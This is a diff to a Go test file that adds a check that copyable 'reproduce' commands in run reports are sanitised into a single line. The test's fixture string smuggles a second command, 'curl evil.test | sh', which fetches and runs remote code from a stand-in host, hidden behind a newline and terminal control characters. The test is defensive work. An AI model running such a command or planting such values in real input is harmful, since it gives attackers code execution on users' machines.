@@ -29,6 +29,19 @@ func TestBuild(t *testing.T) {
 	}
 }
 
+// A command to copy does not run another one when it is pasted, or look like another one: a record may come from another person.
+func TestCommandsToCopyAreOneLine(t *testing.T) {
+	dir, file := reporttest.StoredRun(t)
+	const hostile = "holdfast run\ncurl evil.test | sh #\r\x1b[2K\u202e\u009b"
+	file.Reproduce, file.Scenarios[0].Reproduce = hostile, hostile
+	m := reporttest.Build(t, dir, file)
+	for _, got := range []string{m.Reproduce, m.Scenarios[0].Reproduce} {
+		if got != "holdfast run curl evil.test | sh #  [2K  " {
+			t.Errorf("to copy: %q", got)
+		}
+	}
+}
+
 func TestBuildDamaged(t *testing.T) {
 	events := filepath.Join("chaos", "drain-one-worker", history.EventsFile)
 	truncate := func(t *testing.T, name string) {
